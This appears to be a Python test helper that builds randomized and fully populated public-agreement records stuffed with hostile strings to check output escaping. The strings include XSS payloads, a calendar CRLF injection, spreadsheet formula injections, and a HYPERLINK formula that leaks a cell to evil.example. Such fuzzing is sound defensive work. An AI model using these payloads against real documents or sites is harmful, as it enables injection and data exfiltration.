"""Public agreements: drawn at random, and one that has everything; with hostile texts."""

from datetime import date
from decimal import Decimal
from typing import Any

import msgspec
from hypothesis import strategies as st
from msgspec import inspect

from lifecycle.publishing.public_agreement import PublicAgreement

HOSTILE = (
    "<script>alert(1)</script>",
    '"/><svg onload="alert(1)"> javascript:alert(1)',
    "Trade\r\nEND:VEVENT\r\nBEGIN:VALARM\nX-EVIL:1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "\t@SUM(1+1)",
    "'-2+3",
    "\u202egnihtemos\u202c \u05e9\u05dc\u05d5\u05dd",
    "a, \"b\"; 'c' \\n \\, \\; \u2028 \x00\x1b[2J",
    "\u53cb\u597d \U0001f91d " * 700,
)
"""Texts that act where they aren't taken for text."""

texts = st.sampled_from(HOSTILE) | st.text("=+-@\t\r\n ,;:\"'\\ab\u00e9\u202e\uff1d", max_size=8)
days = st.dates(date(1900, 1, 1), date(2999, 12, 31))
amounts = st.decimals(-(10**15), 10**15, places=4) | st.decimals(-99, 99, places=0)


def any_of(kind: type[msgspec.Struct]) -> st.SearchStrategy[Any]:
    """Draw a value of a kind, with any texts in it."""
    return _drawn(inspect.type_info(kind))


def full(text: str, ref: str = "TOR-2026-001") -> PublicAgreement:
    """Return an agreement that has everything once, each text of it this one."""
    made: PublicAgreement = _filled(inspect.type_info(PublicAgreement), text)
    return msgspec.structs.replace(made, ref=ref)


def _drawn(kind: inspect.Type) -> st.SearchStrategy[Any]:
    match kind:
        case inspect.StructType(cls=cls, fields=fields):
            return st.builds(cls, **{field.name: _drawn(field.type) for field in fields})
        case inspect.UnionType(types=types):
            return st.one_of(*map(_drawn, types))
        case inspect.VarTupleType(item_type=item):
            return st.lists(_drawn(item), max_size=2).map(tuple)
        case inspect.DictType(value_type=value):
            return st.dictionaries(texts, _drawn(value), max_size=2)
        case inspect.EnumType(cls=cls):
            return st.sampled_from(cls)
        case _:
            return _PLAIN[type(kind)]


_PLAIN: dict[type, st.SearchStrategy[Any]] = {
    inspect.StrType: texts,
    inspect.IntType: st.integers(-(10**6), 10**6),
    inspect.BoolType: st.booleans(),
    inspect.DateType: days,
    inspect.DecimalType: amounts,
    inspect.NoneType: st.none(),
}


def _filled(kind: inspect.Type, text: str) -> Any:  # noqa: ANN401 - of any kind
    match kind:
        case inspect.StructType(cls=cls, fields=fields):
            return cls(**{field.name: _filled(field.type, text) for field in fields})
        case inspect.UnionType(types=types):
            return _filled(types[0], text)
        case inspect.VarTupleType(item_type=item):
            return (_filled(item, text),)
        case inspect.EnumType(cls=cls):
            return next(iter(cls))
        case inspect.StrType():
            return text
        case _:
            return _ONE[type(kind)]


_ONE: dict[type, Any] = {
    inspect.IntType: 1,
    inspect.BoolType: True,
    inspect.DateType: date(2026, 11, 2),
    inspect.DecimalType: Decimal("-60000.5"),
}
